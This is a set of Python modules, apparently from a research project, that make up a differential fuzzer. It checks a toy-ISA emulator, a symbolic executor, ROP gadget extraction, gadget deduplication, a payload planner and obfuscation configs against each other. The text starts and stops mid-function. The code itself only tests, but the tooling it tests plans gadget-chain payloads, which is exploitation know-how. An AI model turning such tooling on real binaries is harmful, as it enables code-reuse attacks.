                        record("serialize", i, case, check_serialize(records))
            if due("pipeline", i):
                rng = random.Random(f"{seed}:{i}:pipeline")
                text = b"".join(encode_program(gen_window(rng, max_body=3)) for _ in range(2))
                case = Case(oracle="pipeline", kind="image", text=text)
                with span("fuzz.pipeline"):
                    record("pipeline", i, case, check_pipeline(text))
            if due("planner", i):
                rng = random.Random(f"{seed}:{i}:planner")
                text = b"".join(encode_program(gen_window(rng, max_body=3)) for _ in range(3))
                case = Case(oracle="planner", kind="image", text=text)
                with span("fuzz.planner"):
                    record("planner", i, case, check_planner(text))
            if due("obfuscation", i):
                rng = random.Random(f"{seed}:{i}:obfuscation")
                source = gen_program(rng)
                picks = rng.sample(_OBF_ROTATION, 2)
                configs = ("none", *picks)
                case = Case(
                    oracle="obfuscation",
                    kind="program",
                    source=source,
                    configs=configs,
                    env_seed=seed,
                )
                with span("fuzz.obfuscation"):
                    record(
                        "obfuscation",
                        i,
                        case,
                        check_obfuscation(source, configs, seed=seed),
                    )
        root.add("iters", iters)
        root.add("failures", report.total_failures)
    return report
