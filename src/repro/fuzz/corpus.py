"""The on-disk regression corpus (``tests/corpus/*.json``).

Every failing case the fuzzer shrinks gets banked here as one small
JSON file; ``tests/test_corpus.py`` replays the whole directory on
every CI run, so a divergence fixed once can never silently return.

File names are content-addressed (``<oracle>-<digest>.json``), which
makes banking idempotent and the campaign output byte-stable.
"""

from __future__ import annotations

import json
from hashlib import blake2b
from pathlib import Path
from typing import List, Optional, Union

from ..emulator.cpu import Emulator
from .oracles import Case, EmulatorFactory, run_case

CORPUS_VERSION = 1

#: The repo's canonical corpus location (relative to the repo root).
DEFAULT_CORPUS = Path("tests") / "corpus"


def case_to_dict(case: Case, description: str = "") -> dict:
    return {
        "version": CORPUS_VERSION,
        "oracle": case.oracle,
        "kind": case.kind,
        "description": description or case.note,
        "text_hex": case.text.hex(),
        "offset": case.offset,
        "env_seed": case.env_seed,
        "max_insns": case.max_insns,
        "max_paths": case.max_paths,
        "source": case.source,
        "configs": list(case.configs),
    }


def case_from_dict(data: dict) -> Case:
    return Case(
        oracle=data["oracle"],
        kind=data["kind"],
        text=bytes.fromhex(data.get("text_hex", "")),
        offset=int(data.get("offset", 0)),
        env_seed=int(data.get("env_seed", 0)),
        max_insns=int(data.get("max_insns", 8)),
        max_paths=int(data.get("max_paths", 4)),
        source=data.get("source", ""),
        configs=tuple(data.get("configs", ())),
        note=data.get("description", ""),
    )


def case_filename(case: Case) -> str:
    payload = case_to_dict(case)
    del payload["description"]  # replay-irrelevant; names stay stable across re-wording
    digest = blake2b(json.dumps(payload, sort_keys=True).encode(), digest_size=6).hexdigest()
    return f"{case.oracle}-{digest}.json"


def save_case(directory: Union[str, Path], case: Case, description: str = "") -> Path:
    """Bank a (shrunken) case; returns the file path. Idempotent."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / case_filename(case)
    blob = json.dumps(case_to_dict(case, description), indent=2, sort_keys=True) + "\n"
    path.write_text(blob)
    return path


def load_corpus(directory: Union[str, Path]) -> List[Case]:
    """All banked cases, in sorted filename order (deterministic)."""
    directory = Path(directory)
    cases: List[Case] = []
    if not directory.is_dir():
        return cases
    for path in sorted(directory.glob("*.json")):
        data = json.loads(path.read_text())
        if data.get("version") != CORPUS_VERSION:
            raise ValueError(f"{path}: unsupported corpus version {data.get('version')}")
        cases.append(case_from_dict(data))
    return cases


def replay_corpus(
    directory: Union[str, Path],
    *,
    emulator_factory: EmulatorFactory = Emulator,
) -> List[str]:
    """Replay every banked case; returns all failure messages."""
    failures: List[str] = []
    for case in load_corpus(directory):
        for message in run_case(case, emulator_factory=emulator_factory):
            failures.append(f"[{case.oracle}] {case.note or case_filename(case)}: {message}")
    return failures


def find_repo_corpus(start: Optional[Path] = None) -> Optional[Path]:
    """Locate ``tests/corpus`` upward from ``start`` (or the cwd)."""
    node = (start or Path.cwd()).resolve()
    for candidate in (node, *node.parents):
        corpus = candidate / DEFAULT_CORPUS
        if corpus.is_dir():
            return corpus
    return None
