"""Seeded input generators for the differential fuzzer.

Three families, mirroring the tentpole's (a)/(b)/(c):

* :func:`gen_program` — well-formed mini-C programs whose only output
  is a self-checksum ``print``, suitable for cross-config equivalence;
* :func:`gen_bytes` — raw byte images (unaligned-decode stress);
* :func:`gen_window` — laid-out instruction windows ending in an
  indirect transfer (the gadget-chain shape extraction consumes).

Everything is driven by an explicit ``random.Random`` so a campaign
iteration is reproducible from ``(seed, iteration, oracle)`` alone.

Windows round-trip through :func:`spec_of` / :func:`relayout` so the
shrinker can drop instructions and re-target conditional jumps without
leaving the well-formed subset.
"""

from __future__ import annotations

import random
from dataclasses import replace
from typing import List, Optional, Tuple

from ..binfmt.image import DATA_BASE, TEXT_BASE
from ..isa.encoding import encode_program
from ..isa.instructions import Instruction, Op
from ..isa.registers import Reg

#: (instruction, jcc-target-item-index-or-None) — the editable form.
WindowSpec = List[Tuple[Instruction, Optional[int]]]

#: Registers the generator prefers as operands (RSP only via memory
#: forms, so most windows keep a constant-offset stack pointer).
_GP_REGS = [Reg.RAX, Reg.RBX, Reg.RCX, Reg.RDX, Reg.RSI, Reg.RDI, Reg.R8, Reg.R9]

_COND_OPS = [Op.JE, Op.JNE, Op.JL, Op.JLE, Op.JG, Op.JGE, Op.JB, Op.JBE, Op.JA, Op.JAE, Op.JS, Op.JNS]

_TERMINATORS = [Op.RET, Op.RET, Op.RET, Op.RET, Op.JMP_R, Op.JMP_M, Op.CALL_R, Op.SYSCALL]


def spec_of(insns: List[Instruction]) -> WindowSpec:
    """Recover the editable spec from laid-out instructions.

    Direct-jump targets that land on an instruction in the list become
    item indices (len(insns) = "just past the end"); targets outside
    the window stay encoded in ``rel`` untouched (target index None).
    """
    addr_to_idx = {i.addr: k for k, i in enumerate(insns)}
    end = insns[-1].end if insns else 0
    spec: WindowSpec = []
    for insn in insns:
        target: Optional[int] = None
        if insn.is_cond_jump() or insn.op in (Op.JMP_REL, Op.CALL_REL):
            if insn.target in addr_to_idx:
                target = addr_to_idx[insn.target]
            elif insn.target == end:
                target = len(insns)
        spec.append((insn, target))
    return spec


def relayout(spec: WindowSpec, base: int = TEXT_BASE) -> List[Instruction]:
    """Assign addresses from ``base`` and recompute indexed jump rels."""
    sizes = [item[0].size for item in spec]
    addrs: List[int] = []
    cursor = base
    for size in sizes:
        addrs.append(cursor)
        cursor += size
    out: List[Instruction] = []
    for k, (insn, target) in enumerate(spec):
        new = replace(insn, addr=addrs[k])
        if target is not None:
            target_addr = addrs[target] if target < len(spec) else cursor
            new = replace(new, rel=target_addr - (addrs[k] + sizes[k]))
        out.append(new)
    return out


def window_bytes(insns: List[Instruction]) -> bytes:
    return encode_program(insns)


def _gen_body_insn(rng: random.Random) -> Instruction:
    """One non-branch body instruction."""
    r = rng.choice(_GP_REGS)
    s = rng.choice(_GP_REGS)
    roll = rng.random()
    if roll < 0.10:
        return Instruction(op=Op.MOV_RI, dst=r, imm=rng.choice([0, 1, 7, rng.getrandbits(16), rng.getrandbits(63)]))
    if roll < 0.18:
        return Instruction(op=Op.MOV_RR, dst=r, src=s)
    if roll < 0.26:
        op = rng.choice([Op.ADD_RR, Op.SUB_RR, Op.AND_RR, Op.OR_RR, Op.XOR_RR, Op.MUL_RR])
        return Instruction(op=op, dst=r, src=s)
    if roll < 0.34:
        op = rng.choice([Op.ADD_RI, Op.SUB_RI, Op.AND_RI, Op.OR_RI, Op.XOR_RI, Op.CMP_RI, Op.TEST_RI])
        return Instruction(op=op, dst=r, imm=rng.randrange(0, 1 << 31))
    if roll < 0.40:
        op = rng.choice([Op.SHL_RI, Op.SHR_RI, Op.SAR_RI])
        return Instruction(op=op, dst=r, imm=rng.randrange(0, 64))
    if roll < 0.48:
        op = rng.choice([Op.INC_R, Op.DEC_R, Op.NOT_R, Op.NEG_R])
        return Instruction(op=op, dst=r)
    if roll < 0.56:
        op = rng.choice([Op.CMP_RR, Op.TEST_RR])
        return Instruction(op=op, dst=r, src=s)
    if roll < 0.66:
        if rng.random() < 0.5:
            return Instruction(op=Op.PUSH_R, dst=r)
        return Instruction(op=Op.POP1, dst=r)
    if roll < 0.76:
        disp = rng.randrange(0, 8) * 8
        if rng.random() < 0.5:
            return Instruction(op=Op.LOAD, dst=r, base=Reg.RSP, disp=disp)
        return Instruction(op=Op.STORE, base=Reg.RSP, disp=disp, src=r)
    if roll < 0.82:
        return Instruction(op=Op.LEA, dst=r, base=s, disp=rng.randrange(-64, 64))
    if roll < 0.88:
        return Instruction(op=Op.XCHG, dst=r, src=s)
    if roll < 0.94:
        # A register pointed into mapped .data, then a wild load off it.
        return Instruction(op=Op.MOV_RI, dst=r, imm=DATA_BASE + rng.randrange(0, 64) * 8)
    return Instruction(op=Op.NOP)


def gen_window(rng: random.Random, max_body: int = 6) -> List[Instruction]:
    """A laid-out instruction window ending in an indirect transfer."""
    n = rng.randrange(0, max_body + 1)
    spec: WindowSpec = [(_gen_body_insn(rng), None) for _ in range(n)]
    if n >= 1 and rng.random() < 0.45:
        # Insert one forward conditional jump over 0..2 later insns.
        pos = rng.randrange(0, n)
        skip = rng.randrange(0, min(3, n - pos) + 1)
        jcc = Instruction(op=rng.choice(_COND_OPS), rel=0)
        spec.insert(pos, (jcc, pos + 1 + skip))
    term_op = rng.choice(_TERMINATORS)
    if term_op in (Op.JMP_R, Op.CALL_R):
        term = Instruction(op=term_op, dst=rng.choice(_GP_REGS))
    elif term_op == Op.JMP_M:
        term = Instruction(op=Op.JMP_M, base=rng.choice(_GP_REGS), disp=rng.randrange(0, 8) * 8)
    else:
        term = Instruction(op=term_op)
    spec.append((term, None))
    return relayout(spec, TEXT_BASE)


def gen_bytes(rng: random.Random, size: int = 48) -> bytes:
    """A raw byte image: random bytes salted with real opcodes so the
    decoder sees plenty of near-valid encodings and alias opcodes."""
    out = bytearray(rng.getrandbits(8) for _ in range(size))
    ops = [int(op) for op in Op]
    for _ in range(size // 4):
        pos = rng.randrange(size)
        opcode = rng.choice(ops)
        if rng.random() < 0.3:
            opcode |= 0x80  # alias encoding
        out[pos] = opcode
    return bytes(out)


_SAFE_BINOPS = ["+", "-", "*", "^", "&", "|"]


def gen_program(rng: random.Random) -> str:
    """A well-formed mini-C program printing one self-checksum.

    The program fills an array from a seeded recurrence, folds it with
    randomly chosen (but always well-defined) operators, and prints the
    fold mod a large prime — any cross-config behavioral divergence
    shows up as a different single output line.
    """
    n = rng.randrange(4, 9)
    c0 = rng.randrange(1, 1 << 16)
    c1 = rng.randrange(3, 1 << 8) | 1
    c2 = rng.randrange(1, 1 << 12)
    shift = rng.randrange(1, 16)
    fold_op = rng.choice(_SAFE_BINOPS)
    mix_op = rng.choice(_SAFE_BINOPS)
    branch_div = rng.randrange(2, 7)
    lines = [
        f"u64 a[{n}];",
        "",
        "u64 main() {",
        "    u64 i = 0;",
        f"    u64 acc = {c0};",
        f"    while (i < {n}) {{",
        f"        a[i] = (i * {c1} + {c2}) % 65521;",
        "        i = i + 1;",
        "    }",
        "    i = 0;",
        f"    while (i < {n}) {{",
        f"        if (a[i] % {branch_div} == 0) {{",
        f"            acc = (acc {fold_op} a[i]) + (a[i] << {shift});",
        "        } else {",
        f"            acc = acc {mix_op} (a[i] * {c1});",
        "        }",
        "        i = i + 1;",
        "    }",
        "    print(acc % 1000000007);",
        "    return 0;",
        "}",
    ]
    return "\n".join(lines) + "\n"
