"""The cross-layer oracle bank.

Every oracle is a pure function from a replayable :class:`Case` (or
its raw ingredients) to a list of failure messages — empty means
"agreed or inconclusive".  Inconclusive situations (wild writes the
symbolic side cannot bind, division traps, path-budget truncation,
unmapped wild reads) are deliberately *skipped*, never reported: a
differential oracle must only fire when both sides made a checkable
claim about the same execution.

The oracles:

``roundtrip``
    ``encode(decode(data, off))`` reproduces the canonical bytes at
    every offset of an image, and ``decode_window`` chains are
    self-consistent at unaligned offsets.
``emu_symex``
    For a window's feasible symbolic path (constraints evaluated under
    a concrete seeded machine), the concrete emulator follows the same
    instruction trace and lands on the same post-registers and jump
    target.
``prefilter``
    Static-analysis soundness: any window the
    :class:`~repro.staticanalysis.window.WindowAnalyzer` culls yields
    zero usable symbolic paths.
``winnow``
    Subsumption only drops records with a same-fingerprint survivor
    that agrees under fresh concrete probes (trial keys disjoint from
    the ones the winnower itself used).
``serialize``
    ``pool_from_bytes(pool_to_bytes(pool))`` is byte-stable.
``pipeline``
    ``jobs=1`` and ``jobs=2`` extraction+winnow produce byte-identical
    pools.
``planner``
    A defenses-off policy produces the same payloads as no policy.
``obfuscation``
    Every obfuscation config preserves a program's concrete output.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field, replace
from hashlib import blake2b
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from ..binfmt.image import TEXT_BASE, make_image
from ..emulator.cpu import DivideError, Emulator, EmulatorError, run_image
from ..emulator.memory import MemoryFault
from ..gadgets.extract import ExtractionConfig, extract_gadgets
from ..gadgets.record import GadgetRecord
from ..gadgets.subsumption import deduplicate_gadgets, fingerprint
from ..isa.encoding import DecodeError, decode, decode_window, encode
from ..isa.instructions import opcode_operands
from ..isa.registers import ALL_REGS, MASK64, Flag, Reg
from ..obfuscation.pipeline import CONFIGS, build_program
from ..pipeline import pool_from_bytes, pool_to_bytes, run_pipeline
from ..symex.executor import EndKind, SymbolicExecutor
from ..symex.expr import eval_bool, eval_bv
from ..symex.state import FLAG_SYM_PREFIX, reg_sym, stack_sym_offset
from ..staticanalysis.decode_graph import shared_decode_graph
from ..staticanalysis.window import WindowAnalyzer

EmulatorFactory = Callable[..., Emulator]


class Inconclusive(Exception):
    """The two sides did not make a comparable claim; skip the case."""


@dataclass(frozen=True)
class Case:
    """One replayable fuzz case (what the corpus serializes)."""

    oracle: str
    kind: str  # "window" | "image" | "program"
    text: bytes = b""
    offset: int = 0
    env_seed: int = 0
    max_insns: int = 8
    max_paths: int = 4
    source: str = ""
    configs: Tuple[str, ...] = ()
    note: str = ""


@dataclass
class OracleOutcome:
    """A single oracle invocation's result."""

    failures: List[str] = field(default_factory=list)
    inconclusive: bool = False


# ---------------------------------------------------------------------------
# encode/decode round-trip
# ---------------------------------------------------------------------------


def check_roundtrip(data: bytes) -> List[str]:
    """Canonical re-encoding and window self-consistency at every offset."""
    failures: List[str] = []
    for off in range(len(data)):
        try:
            insn = decode(data, off)
        except DecodeError:
            continue
        encoded = encode(insn)
        canonical = bytes([data[off] & 0x7F]) + data[off + 1 : off + insn.size]
        if encoded != canonical:
            failures.append(
                f"roundtrip: encode(decode) at +{off} gave {encoded.hex()} "
                f"!= canonical {canonical.hex()}"
            )
            continue
        if len(encoded) != insn.size:
            failures.append(f"roundtrip: size mismatch at +{off}: {len(encoded)} != {insn.size}")
        again = decode(encoded, 0, addr=insn.addr)
        if opcode_operands(again) != opcode_operands(insn):
            failures.append(f"roundtrip: re-decode at +{off} changed operands")
    # decode_window must agree with pointwise decode and chain addresses.
    for off in range(len(data)):
        cursor = off
        for insn in decode_window(data, off, base_addr=0):
            if insn.addr != cursor:
                failures.append(f"decode_window: non-contiguous chain at +{off}")
                break
            point = decode(data, cursor)
            if opcode_operands(point) != opcode_operands(insn):
                failures.append(f"decode_window: disagrees with decode at +{cursor}")
                break
            cursor += insn.size
    return failures


# ---------------------------------------------------------------------------
# emulator vs symbolic executor
# ---------------------------------------------------------------------------

#: Stack bytes seeded on each side of rsp0 (both machine copies see
#: the same pseudo-random payload; everything else is zero-fill).
_STACK_SALT_LO = -0x200
_STACK_SALT_HI = 0x400

_FLAG_ORDER = (Flag.ZF, Flag.SF, Flag.CF, Flag.OF)


def _seed_machine(emu: Emulator, env_seed: int) -> None:
    rng = random.Random(f"fuzzenv:{env_seed}")
    rsp0 = emu.cpu.get(Reg.RSP)
    for off in range(_STACK_SALT_LO, _STACK_SALT_HI, 8):
        emu.memory.write_u64((rsp0 + off) & MASK64, rng.getrandbits(64))
    for reg in ALL_REGS:
        if reg == Reg.RSP:
            continue
        roll = rng.random()
        if roll < 0.20:
            value = (rsp0 + rng.randrange(_STACK_SALT_LO // 8, _STACK_SALT_HI // 8) * 8) & MASK64
        elif roll < 0.35:
            value = rng.randrange(0, 16)
        else:
            value = rng.getrandbits(64)
        emu.cpu.set(reg, value)
    for flag in _FLAG_ORDER:
        emu.cpu.flags[flag] = bool(rng.getrandbits(1))


class _PathEnv(dict):
    """Lazy symbol → concrete-value binding against a machine snapshot.

    Registers and flags are eagerly bound; ``stk<n>`` payload symbols
    and ``mem<n>`` wild-read symbols resolve on demand against the
    *initial* memory image (the snapshot machine is never stepped, so
    later stores cannot contaminate entry-state symbols).
    """

    def __init__(self, snapshot: Emulator, mem_reads: Sequence) -> None:
        super().__init__()
        self._memory = snapshot.memory
        self._rsp0 = snapshot.cpu.get(Reg.RSP)
        for reg in ALL_REGS:
            self[str(reg_sym(reg))] = snapshot.cpu.get(reg)
        for flag in _FLAG_ORDER:
            self[f"{FLAG_SYM_PREFIX}{flag.value}"] = int(snapshot.cpu.flags[flag])
        self._wild = {str(r.value_sym): r for r in mem_reads}

    def __missing__(self, name: str) -> int:
        offset = stack_sym_offset(name)
        if offset is not None:
            value = self._read((self._rsp0 + offset) & MASK64, 8)
        else:
            read = self._wild.get(name)
            if read is None:
                raise Inconclusive(f"unbindable symbol {name}")
            addr = eval_bv(read.addr, self) & MASK64
            value = self._read(addr, read.width)
        self[name] = value
        return value

    def _read(self, addr: int, width: int) -> int:
        try:
            if width == 8:
                return self._memory.read_u64(addr)
            return self._memory.read_u8(addr)
        except MemoryFault:
            raise Inconclusive(f"unmapped concrete read at {addr:#x}") from None


def check_window(
    text: bytes,
    offset: int,
    env_seed: int,
    *,
    max_insns: int = 8,
    max_paths: int = 4,
    emulator_factory: EmulatorFactory = Emulator,
) -> List[str]:
    """Differential emulator-vs-symex check of one window.

    Picks the (unique) symbolic path whose constraints hold under a
    seeded concrete machine, then drives the emulator down the same
    window and compares the instruction trace, all sixteen
    post-registers, and the jump target.
    """
    outcome = _check_window_outcome(
        text, offset, env_seed,
        max_insns=max_insns, max_paths=max_paths, emulator_factory=emulator_factory,
    )
    return outcome.failures


def _check_window_outcome(
    text: bytes,
    offset: int,
    env_seed: int,
    *,
    max_insns: int,
    max_paths: int,
    emulator_factory: EmulatorFactory,
) -> OracleOutcome:
    image = make_image(text)
    base = image.text.addr
    addr = base + offset
    executor = SymbolicExecutor(text, base, max_insns=max_insns, max_paths=max_paths)
    paths = [p for p in executor.execute_paths(addr) if p.is_usable]
    if not paths:
        return OracleOutcome()

    snapshot = emulator_factory(image, stop_on_attack=False)
    _seed_machine(snapshot, env_seed)

    feasible = []
    inconclusive = False
    for path in paths:
        if path.state.stack_smashed:
            inconclusive = True
            continue
        if any(w.stack_offset is None for w in path.state.mem_writes):
            inconclusive = True  # wild write: concrete side effects unmodeled
            continue
        env = _PathEnv(snapshot, path.state.mem_reads)
        try:
            if all(eval_bool(c, env) for c in path.state.constraints):
                feasible.append((path, env))
        except Inconclusive:
            inconclusive = True
    if not feasible:
        return OracleOutcome(inconclusive=inconclusive)
    if len(feasible) > 1:
        traces = {tuple(i.addr for i in p.insns) for p, _ in feasible}
        if len(traces) > 1:
            return OracleOutcome(
                failures=[
                    f"symex: {len(feasible)} distinct paths of window {offset:+#x} are "
                    "simultaneously feasible (constraints not mutually exclusive)"
                ]
            )
    path, env = feasible[0]

    # Pre-evaluate every claim; any unbindable symbol → inconclusive.
    try:
        expect_regs = {r: eval_bv(path.state.get(r), env) & MASK64 for r in ALL_REGS}
        expect_target = (
            eval_bv(path.jump_target, env) & MASK64 if path.end is not EndKind.SYSCALL else None
        )
    except Inconclusive:
        return OracleOutcome(inconclusive=True)

    live = emulator_factory(image, stop_on_attack=False)
    _seed_machine(live, env_seed)
    live.cpu.rip = addr
    steps = len(path.insns) - (1 if path.end is EndKind.SYSCALL else 0)
    for k in range(steps):
        expected = path.insns[k].addr
        if live.cpu.rip != expected:
            return OracleOutcome(
                failures=[
                    f"divergence at step {k}: emulator rip {live.cpu.rip:#x} != "
                    f"symex {expected:#x} ({path.insns[k]})"
                ]
            )
        try:
            live.step()
        except DivideError:
            return OracleOutcome(inconclusive=True)
        except (EmulatorError, MemoryFault) as exc:
            return OracleOutcome(
                failures=[f"emulator fault at step {k} ({path.insns[k]}): {exc}"]
            )
    failures: List[str] = []
    for reg in ALL_REGS:
        got = live.cpu.get(reg)
        if got != expect_regs[reg]:
            failures.append(
                f"post-reg {reg}: emulator {got:#x} != symex {expect_regs[reg]:#x}"
            )
    if expect_target is not None and live.cpu.rip != expect_target:
        failures.append(
            f"jump target: emulator rip {live.cpu.rip:#x} != symex {expect_target:#x}"
        )
    if path.end is EndKind.SYSCALL and live.cpu.rip != path.insns[-1].addr:
        failures.append(
            f"syscall path: emulator rip {live.cpu.rip:#x} != {path.insns[-1].addr:#x}"
        )
    return OracleOutcome(failures=failures)


# ---------------------------------------------------------------------------
# static-prefilter soundness
# ---------------------------------------------------------------------------


def check_prefilter(text: bytes, *, max_insns: int = 6, max_paths: int = 6) -> List[str]:
    """Nothing the WindowAnalyzer culls may have a usable symbolic path."""
    base = TEXT_BASE
    graph = shared_decode_graph(text, base)
    analyzer = WindowAnalyzer(graph, max_insns=max_insns)
    executor = SymbolicExecutor(text, base, max_insns=max_insns, max_paths=max_paths)
    failures: List[str] = []
    for off in range(len(text)):
        if analyzer.reaches_transfer(base + off):
            continue
        usable = [p for p in executor.execute_paths(base + off) if p.is_usable]
        if usable:
            failures.append(
                f"prefilter: culled {base + off:#x} but symex found "
                f"{len(usable)} usable path(s) ending {usable[0].end.name}"
            )
    return failures


# ---------------------------------------------------------------------------
# winnow subsumption vs fresh concrete probes
# ---------------------------------------------------------------------------


class _FreshProbeEnv(dict):
    """Deterministic symbol valuation keyed off-track from the
    winnower's own probe trials (blake2b domain ``fuzzprobe``)."""

    def __init__(self, trial: int) -> None:
        super().__init__()
        self._trial = trial

    def __missing__(self, name: str) -> int:
        digest = blake2b(f"fuzzprobe:{self._trial}:{name}".encode(), digest_size=8).digest()
        value = int.from_bytes(digest, "little")
        self[name] = value
        return value


def _probe_claims(record: GadgetRecord, trial: int) -> Optional[Tuple]:
    env = _FreshProbeEnv(trial)
    try:
        if not all(eval_bool(c, env) for c in record.pre_cond):
            return None
        regs = tuple(eval_bv(record.post_regs[r], env) & MASK64 for r in ALL_REGS)
        target = eval_bv(record.jump_target, env) & MASK64
    except KeyError:
        return None
    return regs + (target,)


def check_winnow(text: bytes, *, config: Optional[ExtractionConfig] = None) -> List[str]:
    """Winnow validity: survivors ⊆ records, and every dropped record
    has a same-fingerprint survivor agreeing under fresh probes."""
    image = make_image(text)
    config = config or ExtractionConfig(max_insns=5, max_paths=4, max_candidates=64)
    records = extract_gadgets(image, config)
    if not records:
        return []
    survivors = deduplicate_gadgets(records)
    failures: List[str] = []
    record_ids = {id(r) for r in records}
    surv_ids = {id(s) for s in survivors}
    for s in survivors:
        if id(s) not in record_ids:
            failures.append(f"winnow: survivor #{s.gadget_id} is not one of the input records")
    by_fp: Dict[Tuple, List[GadgetRecord]] = {}
    for s in survivors:
        by_fp.setdefault(fingerprint(s), []).append(s)
    for r in records:
        if id(r) in surv_ids:
            continue
        group = by_fp.get(fingerprint(r))
        if not group:
            failures.append(
                f"winnow: dropped #{r.gadget_id} @ {r.location:#x} with no "
                "same-fingerprint survivor"
            )
            continue
        trials = range(100, 104)
        matched = any(
            all(
                _probe_claims(r, t) is None or _probe_claims(r, t) == _probe_claims(s, t)
                for t in trials
            )
            for s in group
        )
        if not matched:
            failures.append(
                f"winnow: dropped #{r.gadget_id} @ {r.location:#x} but no survivor "
                "agrees under fresh concrete probes"
            )
    return failures


# ---------------------------------------------------------------------------
# serialization / parallel pipeline / planner identities
# ---------------------------------------------------------------------------


def check_serialize(records: Sequence[GadgetRecord]) -> List[str]:
    blob = pool_to_bytes(list(records))
    back = pool_from_bytes(blob)
    if pool_to_bytes(back) != blob:
        return ["serialize: pool_to_bytes(pool_from_bytes(blob)) != blob"]
    if len(back) != len(records):
        return [f"serialize: {len(records)} records in, {len(back)} out"]
    return []


def check_pipeline(text: bytes, *, config: Optional[ExtractionConfig] = None) -> List[str]:
    image = make_image(text)
    config = config or ExtractionConfig(max_insns=5, max_paths=4, max_candidates=48)
    serial_records, serial_surv = run_pipeline(image, config, jobs=1)
    para_records, para_surv = run_pipeline(image, config, jobs=2)
    failures: List[str] = []
    if pool_to_bytes(serial_records) != pool_to_bytes(para_records):
        failures.append("pipeline: jobs=1 vs jobs=2 extraction pools differ")
    if pool_to_bytes(serial_surv or []) != pool_to_bytes(para_surv or []):
        failures.append("pipeline: jobs=1 vs jobs=2 winnowed pools differ")
    return failures


def check_planner(text: bytes, *, config: Optional[ExtractionConfig] = None) -> List[str]:
    from ..defenses.policy import POLICIES
    from ..planner import GadgetPlanner
    from ..planner.search import PlannerConfig

    image = make_image(text)
    config = config or ExtractionConfig(max_insns=5, max_paths=4, max_candidates=48)
    pcfg = PlannerConfig(max_nodes=400, max_plans=2, max_steps=6)
    base = GadgetPlanner(image, extraction=config, planner=pcfg, validate=False).run()
    off = GadgetPlanner(
        image, extraction=config, planner=pcfg, validate=False, defense=POLICIES["none"]
    ).run()
    failures: List[str] = []
    if base.per_goal != off.per_goal:
        failures.append(f"planner: per_goal differs: {base.per_goal} != {off.per_goal}")
    base_payloads = [p.describe() for p in base.payloads]
    off_payloads = [p.describe() for p in off.payloads]
    if base_payloads != off_payloads:
        failures.append("planner: defenses-off payloads differ from no-policy payloads")
    return failures


# ---------------------------------------------------------------------------
# cross-config behavioral equivalence
# ---------------------------------------------------------------------------


def check_obfuscation(source: str, configs: Sequence[str], *, seed: int = 0) -> List[str]:
    reference: Optional[Tuple[int, bytes]] = None
    ref_name = ""
    failures: List[str] = []
    for name in configs:
        program = build_program(source, CONFIGS[name], seed=seed)
        status, stdout = run_image(program.image, step_limit=2_000_000)
        if reference is None:
            reference, ref_name = (status, stdout), name
        elif (status, stdout) != reference:
            failures.append(
                f"obfuscation: config {name} output {(status, stdout)!r} != "
                f"{ref_name} {reference!r}"
            )
    return failures


# ---------------------------------------------------------------------------
# case dispatch (corpus replay + shrinker re-checks)
# ---------------------------------------------------------------------------


def run_case(case: Case, *, emulator_factory: EmulatorFactory = Emulator) -> List[str]:
    """Re-run the oracle a case names; empty list = green/inconclusive."""
    if case.oracle == "roundtrip":
        return check_roundtrip(case.text)
    if case.oracle == "emu_symex":
        return check_window(
            case.text,
            case.offset,
            case.env_seed,
            max_insns=case.max_insns,
            max_paths=case.max_paths,
            emulator_factory=emulator_factory,
        )
    if case.oracle == "prefilter":
        return check_prefilter(case.text, max_insns=case.max_insns, max_paths=case.max_paths)
    if case.oracle == "winnow":
        return check_winnow(case.text)
    if case.oracle == "serialize":
        image = make_image(case.text)
        records = extract_gadgets(
            image, ExtractionConfig(max_insns=5, max_paths=4, max_candidates=64)
        )
        return check_serialize(records)
    if case.oracle == "pipeline":
        return check_pipeline(case.text)
    if case.oracle == "planner":
        return check_planner(case.text)
    if case.oracle == "obfuscation":
        return check_obfuscation(case.source, case.configs or ("none",), seed=case.env_seed)
    raise ValueError(f"unknown oracle {case.oracle!r}")


def clone_case(case: Case, **changes) -> Case:
    return replace(case, **changes)
