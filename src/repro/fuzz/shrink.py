"""Auto-shrinker: reduce a failing case to a minimal reproducer.

Three reductions, applied to a fixpoint (each candidate is accepted
only if the original oracle still fails on it):

* **re-rooting** — move the window start to a later decode boundary,
  dropping leading instructions without touching any bytes;
* **instruction drop** — remove one body instruction, re-lay the
  window out from the text base, and re-target indexed conditional
  jumps (via :func:`repro.fuzz.gen.spec_of`/``relayout``);
* **byte trim** — for raw-image oracles, delete chunks (then single
  bytes) ddmin-style.

Programs shrink by dropping whole source lines.  The shrinker never
invents inputs: every accepted candidate failed the same oracle, so
the final case is a true minimal-ish reproducer suitable for the
regression corpus.
"""

from __future__ import annotations

from typing import Callable, List, Optional

from ..isa.encoding import decode_window, encode_program
from ..isa.instructions import Instruction, Op
from .gen import relayout, spec_of
from .oracles import Case, Emulator, EmulatorFactory, clone_case, run_case

#: Upper bound on oracle re-runs per shrink (keeps pathological cases
#: from dominating a campaign).
_MAX_CHECKS = 200


def window_chain(text: bytes, offset: int) -> List[Instruction]:
    """The fall-through decode chain from ``offset`` up to and
    including the first indirect transfer (empty if none decodes)."""
    chain: List[Instruction] = []
    for insn in decode_window(text, offset, base_addr=0):
        chain.append(insn)
        if insn.is_indirect() or insn.op is Op.SYSCALL:
            break
    return chain


def window_insn_count(case: Case) -> int:
    """Reproducer size metric: instructions in the fall-through chain."""
    return len(window_chain(case.text, case.offset))


def shrink_case(
    case: Case,
    *,
    emulator_factory: EmulatorFactory = Emulator,
    max_checks: int = _MAX_CHECKS,
    still_fails: Optional[Callable[[Case], bool]] = None,
) -> Case:
    """Reduce ``case`` while it keeps failing its oracle.

    Returns the smallest failing case found (possibly ``case`` itself
    when no reduction reproduces).  ``still_fails`` overrides the
    reproduction predicate (tests use it to observe oracle calls).
    """
    budget = [max_checks]

    def fails(candidate: Case) -> bool:
        if budget[0] <= 0:
            return False
        budget[0] -= 1
        if still_fails is not None:
            return still_fails(candidate)
        try:
            return bool(run_case(candidate, emulator_factory=emulator_factory))
        except Exception:
            return False  # a reduction that crashes the oracle is no reproducer

    if case.kind == "window":
        return _shrink_window(case, fails, budget)
    if case.kind == "image":
        return _shrink_bytes(case, fails, budget)
    if case.kind == "program":
        return _shrink_program(case, fails, budget)
    return case


_Pred = Callable[[Case], bool]


def _shrink_window(case: Case, fails: _Pred, budget: List[int]) -> Case:
    current = case
    changed = True
    while changed and budget[0] > 0:
        changed = False
